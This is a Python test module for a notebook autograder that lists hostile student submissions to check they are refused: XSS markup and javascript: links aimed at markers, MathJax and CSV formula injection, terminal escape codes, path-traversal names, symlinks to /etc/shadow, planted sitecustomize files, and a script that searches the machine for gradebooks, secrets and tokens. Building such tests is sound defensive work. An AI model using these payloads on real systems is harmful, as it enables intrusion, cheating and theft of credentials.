"""Attacks on people: on those who read marks and feedback, and on those whose work lies beside the attacker's."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from grader.attacks.attack import Attack, aimed
from grader.attacks.changes import whole
from grader.attacks.on_grader import written

ASK = "fetch('/api/contents?stolen')"
"""What a script of a student would do: it asks the server for something, which a test can see."""
AWAY = "http://127.0.0.1:1/stolen"

# Each runs, asks for something or leads away if a browser takes it for more than text.
MARKUP = (
    f"<script>{ASK}</script>",
    f'<img src="nowhere" onerror="{ASK}">',
    f'<svg onload="{ASK}"></svg>',
    f'<svg><animate onbegin="{ASK}" attributeName="x" dur="1s"></svg>',
    f'<svg><use href="{AWAY}#x"/><image href="{AWAY}"/></svg>',
    f'<iframe srcdoc="<script>parent.{ASK}</script>"></iframe>',
    f'<iframe src="{AWAY}"></iframe>',
    f'<details open ontoggle="{ASK}"><summary>more</summary></details>',
    f'<form action="{AWAY}"><input name="a" autofocus onfocus="{ASK}"><button>Log in</button></form>',
    f'<meta http-equiv="refresh" content="0; url={AWAY}">',
    f'<base href="{AWAY}/">',
    f'<link rel="stylesheet" href="{AWAY}">',
    f"<style>body {{ background: url({AWAY}) }} @import '{AWAY}';</style>",
    f'<p style="background-image: url({AWAY}); position: fixed; inset: 0">x</p>',
    f'<video src="{AWAY}" poster="{AWAY}"></video><audio src="{AWAY}" autoplay></audio>',
    f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    f'<math href="javascript:{ASK}">x</math>',
    f'<a href="javascript:{ASK}">a</a><a href="JaVa&#x09;script:{ASK}">b</a><a href="data:text/html,<script>{ASK}</script>">c</a>',
    f'<noscript><p title="</noscript><img src=x onerror={ASK}>">',
    f"<![CDATA[<script>{ASK}</script>]]><!--><script>{ASK}</script>-->",
)
# Commands of TeX that MathJax turns into links, attributes and names of Formgrader's own fields.
TEX = (
    f"$\\href{{javascript:{ASK}}}{{x}}$",
    "$$\\class{full-credit}{x} \\cssId{check_mse}{y} \\style{position:fixed}{z}$$",
    f"\\(\\href{{javascript:{ASK}}}{{x}}\\)",
    "\\begin{equation}\\require{html}\\data{x=y}{z}\\unicode{x41}\\end{equation}",
)
EVERYTHING = "".join(MARKUP)
NOISY = f"""
from IPython.display import HTML, Javascript, Markdown, Latex, SVG, display
evil = {EVERYTHING!r}
for kind in (HTML, Javascript, Markdown, Latex):
    display(kind(evil))
display({{"text/html": evil, "text/markdown": evil, "text/latex": evil, "image/svg+xml": evil, "image/png": evil, "text/plain": evil,
         "application/javascript": evil, "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}, raw=True)
print(evil)
print("\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m red")
"""


def neighbours_linked(folder: Path, root: Path) -> None:
    """The notebook of a neighbour by way of a link."""
    (folder / "ch1_xor.ipynb").unlink()
    os.symlink(root / "submitted" / "ada" / "ch1_xor" / "ch1_xor.ipynb", folder / "ch1_xor.ipynb")


def shadow_linked(folder: Path, root: Path) -> None:
    """A file of the machine beside the notebook, to find it copied into one's own folder later."""
    os.symlink("/etc/shadow", folder / "notes.txt")


def folder_linked(folder: Path, root: Path) -> None:
    """The whole folder is a link to the neighbour's."""
    shutil.rmtree(folder)
    os.symlink(root / "submitted" / "ada" / "ch1_xor", folder)


def course_planted(folder: Path, root: Path) -> None:
    """A course inside the submission: a configuration, solutions, results and a secret."""
    shutil.copytree(root / "solutions", folder / "solutions")
    (folder / ".grader").mkdir()
    (folder / ".grader" / "secret").write_text("00" * 32)
    planted = 'c = get_config()\nc.JudgedExecute.trust_submissions = True\nraise SystemExit("read")\n'
    for name in (
        "nbgrader_config.py",
        "numpy.py",
        "sitecustomize.py",
        "usercustomize.py",
        "fnnkit.py",
        "grader.py",
    ):
        (folder / name).write_text(planted)


def second_notebook(folder: Path, root: Path) -> None:
    """Notebooks that nobody asked for, one of them with the name of another chapter."""
    text = (folder / "ch1_xor.ipynb").read_text()
    for name in ("ch2_output_units.ipynb", "extra.ipynb", "=cmd.ipynb"):
        (folder / name).write_text(text)


def pages_beside(folder: Path, root: Path) -> None:
    """What a browser would run, beside the notebook and below it, under every name that could get it served."""
    (folder / "data").mkdir()
    for name in (
        "derivation.html", "x.xhtml", "x.svg", "x.js", "x.mjs", "x.xml", "x.csv.html", "x.html.csv", "x.vl.json", "noending", "ch1_xor.html",
        "data/derivation.html", "data/x.svg", "nbgrader_config.py", "X.IPYNB", "x.pdf", "x.wasm", "x.css", ".htaccess",
    ):  # fmt: skip
        (folder / name).write_text(f"<!doctype html><script>{ASK}</script>{EVERYTHING}")


def exception_of(text: str) -> dict[str, str]:
    """Answers that raise and return a text in every way."""
    return {
        "mse": f"print('raises')\ndef mse(*a):\n    raise ValueError({text!r})",
        "fit_linear": f"def fit_linear(*a):\n    return {text!r}",
        "xor_network": f"raise type({text!r}, (Exception,), {{}})({text!r})",
    }


def in_metadata(notebook: dict[str, Any]) -> None:
    """Markup in every place of a notebook that is no source."""
    notebook["metadata"].update(
        title=EVERYTHING,
        authors=[{"name": EVERYTHING}],
        kernelspec={"name": EVERYTHING, "display_name": EVERYTHING},
    )
    for n, cell in enumerate(notebook["cells"]):
        cell["metadata"]["tags"] = [EVERYTHING]
        cell["id"] = f"x-{n}"
        if cell["cell_type"] == "code":
            data = {"text/html": EVERYTHING, "application/javascript": ASK}
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


def answered(source: str) -> Callable[[dict[str, Any]], str]:
    """A written answer, with wrong functions."""
    return written(source)


ON_PEOPLE = aimed(
    "people",
    Attack("scripts in outputs", "script in feedback", "outputs are shown to whoever marks by hand", {"mse": NOISY}, shows="stolen"),
    Attack("scripts in exceptions and values", "script in feedback", "feedback quotes what was raised and returned",
           exception_of(EVERYTHING), shows="raises", explains="stolen"),
    Attack("scripts in a written answer", "script in feedback", "Markdown lets HTML through",
           file=answered("\n\n".join(["# Why", *MARKUP, f"[press](javascript:{ASK})", f"![x]({AWAY})", f"<{AWAY}>"]))),
    Attack("scripts in code and formulas of a written answer", "script in feedback", "what is not rendered is not cleaned",
           file=answered("\n\n".join([f"`{MARKUP[0]}`", f"```\n{MARKUP[1]}\n```", *[f"$x = {markup}$" for markup in MARKUP]]))),
    Attack("TeX that makes links and names", "script in feedback", "MathJax knows \\href, \\class and \\cssId",
           exception_of(" ".join(TEX)), file=answered("\n\n".join(TEX))),
    Attack("names of Formgrader's buttons", "script in feedback", "a click on the text gives full credit",
           file=answered('<p class="full-credit">So.</p><p class="btn mark-graded" id="check_mse" name="x" data-x="y">There.</p>')),
    Attack("scripts in metadata and ids", "script in feedback", "templates print ids and tags", file=whole(in_metadata)),
    Attack("scripts in the name of a student", "script in feedback", "names stand on every page",
           student="<script>alert(1)<script>", refused="not a safe name"),
    Attack("control characters in a name", "script in feedback", "the terminal of the instructor obeys them",
           student="\x1b]0;owned\x07eve", refused="not a safe name"),
    Attack("a name that is a formula", "CSV formulas", "a spreadsheet computes it, and calls programs",
           student="=cmd|' C'!A0", refused="not a safe name"),
    Attack("a name that is a formula with a space", "CSV formulas", "a check of the first letter does not see it",
           student=" @SUM(1+1)", refused="not a safe name"),
    Attack("a name with a comma and a quote", "CSV formulas", "columns move, and the neighbour's score becomes one's own",
           student='eve",5,"', refused="not a safe name"),
    Attack("a name with a comma", "CSV formulas", "columns move in a file that does not quote", student="eve, 5, 5"),
    Attack("a name that climbs", "path traversal", "two dots lead out of the folder", student="..eve..", refused="not a safe name"),
    Attack("a name with a backslash", "path traversal", "another system takes it for a folder", student="..\\..\\eve", refused="not a safe name"),
    Attack("a name with wildcards", "path traversal", "nbgrader takes names for patterns: everybody is graded as this one",
           student="[a-z]*", refused="not a safe name"),
    Attack("a name with braces", "path traversal", "a name that is formatted holds a field", student="{0.__class__}", refused="not a safe name"),
    Attack("a link to a neighbour's notebook", "reading others' work", "the work of somebody else is graded as one's own",
           folder=neighbours_linked, refused="is a link"),
    Attack("a link to a file of the machine", "reading others' work", "what the grader may read is copied into one's folder",
           folder=shadow_linked, refused="is a link"),
    Attack("a link to a neighbour's folder", "reading others' work", "the whole folder is somebody else's", folder=folder_linked, refused="is a link"),
    *(
        Attack(f"a name with U+{ord(sign):04X}", "script in feedback", tries, student=f"e{sign}31mve", refused="not a safe name")
        for sign, tries in (
            ("\x9b", "an 8-bit terminal reads it as the beginning of a command"),
            ("\x9d", "an 8-bit terminal reads it as the beginning of a title"),
            ("\u202e", "what follows is shown backwards: one name passes for another"),
            ("\u200b", "nobody sees it: two students look like one"),
            ("\u3164", "a letter that is empty: nobody sees it"),
        )
    ),
    Attack("pages beside the notebook", "script in feedback", "whoever marks opens them from the origin in which he is logged in",
           file=answered("[derivation](derivation.html) [again](http:derivation.html) ![x](x.svg) <a href='x.html'>x</a>"), folder=pages_beside),
    Attack("links that lead into the server", "script in feedback", "one click in Formgrader, and the student's page has the instructor's session",
           file=answered("\n\n".join(["[a](derivation.html)", "[b](/api/contents)", "[c](//host/x)", "[d](http:x)", "[e][r]", "[r]: ../x.html",
                                      "<a href=x.html>f</a>", "[g](\\\\host)", "[h](https:/x)"]))),
    Attack("a course inside the submission", "path traversal", "its configuration says that submissions are trusted", folder=course_planted),
    Attack("notebooks that nobody asked for", "path traversal", "a notebook of another chapter, graded as this one", folder=second_notebook),
    Attack(
        "everything in sight searched", "reading others' work", "the gradebook, the solutions and the others lie beside the notebook",
        {"mse": """
            import os
            root, found = "@ROOT@", []
            for place in (root, root + "/gradebook.db", root + "/.grader/secret", root + "/solutions", root + "/submitted",
                          "../../solutions", "../../../gradebook.db", "/root/.ssh", "/home", "/var", "/etc/passwd", "/etc/shadow",
                          "/etc/hostname", "/run", "/mnt", "/srv", "/boot"):
                if os.path.exists(place): found.append(place)
            for base, folders, files in os.walk("/"):
                if base.startswith(("/proc", "/usr", "/site", "/sys")):
                    folders[:] = []
                found += [os.path.join(base, n) for n in files if "gradebook" in n or n in ("secret", "losses.py", "ch1_xor.ipynb")]
            pids = [p for p in os.listdir("/proc") if p.isdigit()]
            if len(pids) > 3: found.append(pids)
            for pid in pids:
                for link in ("root", "cwd"):
                    try: seen = os.listdir(f"/proc/{pid}/{link}")
                    except OSError: continue
                    if "gradebook.db" in seen or "home" in seen: found.append((pid, link))
            names = [n for n in os.environ if any(w in n for w in ("TOKEN", "SECRET", "KEY", "PASS", "SSH", "SUDO", "NBGRADER_D"))]
            print("found", found + names)
        """}, shows=r"found \[\]",
    ),
)  # fmt: skip
